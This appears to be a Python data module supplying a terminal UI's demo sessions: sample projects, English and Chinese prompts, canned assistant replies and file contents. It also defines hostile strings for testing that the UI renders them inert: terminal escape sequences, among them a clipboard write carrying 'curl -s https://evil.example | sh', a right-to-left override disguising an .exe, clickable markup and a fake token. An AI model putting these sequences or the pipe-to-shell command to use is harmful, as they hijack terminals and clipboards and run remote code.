"""The texts the demo sessions are made of: projects, prompts, files, tool outputs, hostile strings.

Plain data; :mod:`ink_tui.demo.outputs` makes the long tool outputs.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

# -- hostile content: the UI must show these as inert text --

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_52_CLIPBOARD = (
    "\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.example | sh").decode() + "\x07"
)
CLEAR_SCREEN = "\x1b[2J\x1b[H"
OSC_8_LINK = "\x1b]8;;https://example.com/totally-safe\x1b\\click me\x1b]8;;\x1b\\"
BIDI_OVERRIDE = "\u202e"
RICH_MARKUP = ("[bold red]x[/]", "[@click=app.quit]quit[/]", "[link=https://example.com]x[/link]")

HOSTILE_STRINGS: tuple[str, ...] = (
    OSC_TITLE,
    OSC_52_CLIPBOARD,
    CLEAR_SCREEN,
    OSC_8_LINK,
    BIDI_OVERRIDE,
    *RICH_MARKUP,
)

HOSTILE_PROMPT = (
    "The release notes renderer breaks on these strings, can you check why? "
    f"{RICH_MARKUP[0]} and {RICH_MARKUP[1]} and {RICH_MARKUP[2]}"
)

HOSTILE_BASH_COMMAND = "cat fixtures/terminal-banner.txt && ls fixtures/uploads"

# A made-up GitHub token (the right shape, no account behind it), as a tool's output would leak
# one: the picker counts it, every view masks it (split so that no scanner takes the source for
# a leak).
DEMO_TOKEN = "ghp_" + "Dm4x7QzK" * 4 + "p2Wn"

HOSTILE_BASH_OUTPUT = (
    "stdout:\n"
    f"{OSC_TITLE}{CLEAR_SCREEN}"
    "=== build banner ===\n"
    f"Docs: {OSC_8_LINK}\n"
    f"{OSC_52_CLIPBOARD}copied!\n"
    f"status: {RICH_MARKUP[0]} {RICH_MARKUP[1]}\n"
    f"see {RICH_MARKUP[2]}\n"
    f"invoice_{BIDI_OVERRIDE}gpj.exe\n"
    "report.pdf\n"
    f"DEPLOY_TOKEN={DEMO_TOKEN}\n"
)

HOSTILE_ASSISTANT_TEXT = (
    "The banner file contains raw terminal escape sequences: an OSC 0 title change, an OSC 52 "
    "clipboard write and a screen clear, plus a file name with a right-to-left override "
    f"(`invoice_{BIDI_OVERRIDE}gpj.exe` is really an `.exe`). Strings such as "
    f"`{RICH_MARKUP[0]}` are being interpreted as markup by the renderer: escape them before "
    "rendering."
)

# -- projects --


@dataclass(frozen=True)
class Project:
    cwd: str
    kind: str  # "python" | "web" | "windows" | "data"
    language: str  # prompt language: "en" | "zh" | "mixed"
    files: tuple[str, ...]
    test_command: str


PROJECTS: tuple[Project, ...] = (
    Project(
        "/home/ada/code/calc-kit",
        "python",
        "en",
        (
            "calc/stats.py",
            "calc/ledger.py",
            "src/calc/handlers.py",
            "src/calc/retry.py",
            "tests/test_stats.py",
            "tests/test_ledger.py",
        ),
        "python -m pytest -q",
    ),
    Project(
        "/Users/mei/work/web-client",
        "web",
        "mixed",
        (
            "src/components/Header.tsx",
            "src/api/client.ts",
            "src/hooks/useSession.ts",
            "src/styles/layout.css",
            "tests/client.test.ts",
        ),
        "pnpm vitest run",
    ),
    Project(
        "C:\\Users\\dev\\proj",
        "windows",
        "en",
        ("src\\main.py", "src\\config.py", "scripts\\build.ps1", "tests\\test_config.py"),
        "python -m pytest -q",
    ),
    Project(
        "/Users/mei/文档/数据分析",
        "data",
        "zh",
        ("clean.py", "report.py", "notebooks/探索.py", "tests/test_clean.py"),
        "python -m pytest -q",
    ),
)

# -- prompts --

PROMPTS_EN = (
    "`sum_list([1, 2, 3])` returns 5 instead of 6. Can you find the bug and fix it? "
    "Run the tests afterwards.",
    "Add a `--dry-run` flag to the CLI that prints what would change without writing anything.",
    "The retry helper swallows the original exception. Make it re-raise with context.",
    "Run ruff and fix whatever it complains about, but don't reformat unrelated files.",
    "Look at {file} and tell me if anything is obviously wrong. Don't change anything yet.",
    "Write tests for the edge cases in {file}: empty input, floats, very large lists.",
    "Why is CI red on main? Check the last test run and fix the failure.",
    "Rename `fetch_json` to `get_json` everywhere and update the docs.",
    "Can you explain what {file} does, step by step?\n\nI'm new to this codebase.",
    "The header overlaps the sidebar on narrow screens. Fix the layout.",
    "ok, go ahead",
    "Looks good. Commit message?",
)

PROMPTS_ZH = (
    "CI 又挂了 😭 帮我看看 {file} 哪里有问题",
    "把 {file} 里的重复代码抽成一个函数,别改公共接口。",
    "帮我清洗一下 销售数据.csv:去掉空行,日期统一成 YYYY-MM-DD。",
    "这个报表的月度汇总不对,三月份少了一天的数据,查一下原因。",
    "给 {file} 加上类型注解,然后跑一下 mypy。",
    "解释一下这段代码在做什么?\n\n特别是分组聚合那一块。",
    "可以,继续",
    "测试都过了吗?把结果贴给我看看。",
)

THINKING_EN = (
    "The user reports an off-by-one, so exactly one element is lost — most likely the first, if "
    "the loop starts at 1. I'll read {file} before touching anything.",
    "I have enough context now. The minimal fix is to change the range; I should also add a "
    "regression test so this doesn't come back.",
    "The failure says expected 3, got 2 — that smells like the loop skipping an element. Let me "
    "verify by reading the function rather than guessing.",
    "Two call sites pass unvalidated input. Before editing, I want to see every caller, so a grep "
    "for the function name across src/ is the cheapest next step.",
)
THINKING_ZH = (
    "用户希望修复 {file} 里的问题。先读文件,再决定改动范围,避免破坏公共接口。",
    "测试失败说明边界条件没处理好。先复现,再改。",
    "日期格式不统一,应该在读取 CSV 时就用 pandas 的 to_datetime 统一处理。",
)

ANSWERS_EN = (
    "Found it: the loop in `{file}` starts at index 1, so the first element is never added.\n\n"
    "```python\ndef sum_list(values):\n    total = 0\n    for value in values:\n"
    "        total += value\n    return total\n```\n\nAll tests pass now (**{n} passed**).",
    "Here's what I found:\n\n1. `fetch_json` is called from {n} places.\n2. Two of them pass "
    "unvalidated input.\n3. The error message is swallowed in the retry loop.\n\n"
    "I'd suggest fixing (2) first. Want me to go ahead?",
    "Done ✅\n\n| file | change |\n|---|---|\n| `{file}` | extracted `fetch_json` |\n"
    "| `tests/` | added {n} regression tests |\n\nI ran the suite: everything is green.",
    "The flag is in place:\n\n```bash\n$ calc report --dry-run\nwould write report.csv "
    "({n} rows)\n```\n\nNothing touches the disk in dry-run mode.",
    "Suggested commit message:\n\n```\nfix(stats): include the first element in sum_list\n\n"
    "The loop started at index 1. Adds regression tests for empty and single-item lists.\n```",
)
ANSWERS_ZH = (
    "问题找到了:`{file}` 里的循环从下标 1 开始,第一个元素被漏掉了。\n\n"
    "```python\nfor value in values:\n    total += value\n```\n\n修复后测试全部通过({n} passed)。",
    "清洗完成:\n\n- 删除空行 {n} 行\n- 日期统一为 `YYYY-MM-DD`\n- 金额列转成 `Decimal`\n\n"
    "三月份少的那一天是因为原始数据里 `2026-03-31` 写成了 `2026/3/31`,已一并处理。",
    "这段代码先按 `地区` 和 `月份` 分组,然后对 `销售额` 求和:\n\n"
    '```python\ndf.groupby(["地区", "月份"])["销售额"].sum()\n```\n\n'
    "注意 `月份` 是字符串,排序时要先转成日期。",
)

SUMMARY_TEMPLATE = (
    "## Goal\n{goal}\n\n## Constraints & Preferences\n- Keep the public API unchanged\n"
    "- Run the test suite before declaring victory\n\n## Progress\n### Done\n"
    "- [x] Reproduced the failure\n- [x] Fixed the boundary condition in `{file}`\n"
    "- [x] Added regression tests\n\n### In Progress\n- [ ] Follow-up from the latest request\n\n"
    "### Blocked\n- (none)\n\n## Key Decisions\n- **Minimal diff**: fix the root cause, no "
    "drive-by refactors\n\n## Next Steps\n1. Address the user's latest request\n"
    "2. Re-run the tests\n\n## Critical Context\n- `{file}`\n- Test command: `{test}`"
)
BRANCH_SUMMARY_TEMPLATE = (
    "## What was tried\n- Rewrote `{file}` with a different approach\n\n"
    "## Outcome & learnings\n- The approach worked locally but made the diff much larger than "
    "needed\n- `ruff` flagged two unused imports afterwards\n\n## Worth carrying over\n"
    "- The regression test written on that branch is still useful"
)
SESSION_NAMES = ("stats: fix + tests", "retry cleanup", "CLI dry-run", "布局修复", "数据清洗")
LABELS = ("start", "before refactor", "fixed here", "good state", "回滚点")

# -- file contents --

PYTHON_FILE = '''"""Small statistics helpers used by the report generator."""

from __future__ import annotations

from collections.abc import Sequence
from decimal import Decimal


def sum_list(values: Sequence[float]) -> float:
    """Return the sum of the numbers in ``values``."""
    total = 0
    for i in range(1, len(values)):
        total += values[i]
    return total


def mean(values: Sequence[float]) -> float:
    if not values:
        raise ValueError("mean() of an empty list")
    return sum_list(values) / len(values)


def parse_amount(text: str) -> Decimal:
    try:
        return Decimal(text.replace(",", ""))
    except ArithmeticError as exc:
        raise ValueError(f"not an amount: {text!r}") from exc
'''

TS_FILE = """import { useEffect, useState } from "react";
import { client } from "../api/client";

export interface Session {
  id: string;
  title: string;
  updatedAt: string;
}

export function useSession(id: string): Session | undefined {
  const [session, setSession] = useState<Session>();
  useEffect(() => {
    let cancelled = false;
    client.get<Session>(`/sessions/${id}`).then((s) => {
      if (!cancelled) setSession(s);
    });
    return () => {
      cancelled = true;
    };
  }, [id]);
  return session;
}
"""

DATA_FILE = '''"""清洗销售数据:去空行、统一日期格式、金额转 Decimal。"""

import pandas as pd


def load(path: str) -> pd.DataFrame:
    df = pd.read_csv(path, encoding="utf-8")
    df = df.dropna(how="all")
    df["日期"] = pd.to_datetime(df["日期"], format="mixed").dt.strftime("%Y-%m-%d")
    return df


def monthly(df: pd.DataFrame) -> pd.DataFrame:
    # 按地区和月份汇总销售额
    return df.groupby(["地区", "月份"])["销售额"].sum().reset_index()
'''

FILE_BY_KIND = {"python": PYTHON_FILE, "windows": PYTHON_FILE, "web": TS_FILE, "data": DATA_FILE}

EDITS_BY_KIND = {
    "python": (
        "    for i in range(1, len(values)):\n        total += values[i]",
        "    for value in values:\n        total += value",
    ),
    "windows": (
        "    for i in range(1, len(values)):\n        total += values[i]",
        "    for value in values:\n        total += value",
    ),
    "web": (
        "      if (!cancelled) setSession(s);",
        "      if (!cancelled) {\n        setSession(s);\n      }",
    ),
    "data": ('    df = df.dropna(how="all")', '    df = df.dropna(how="all").drop_duplicates()'),
}
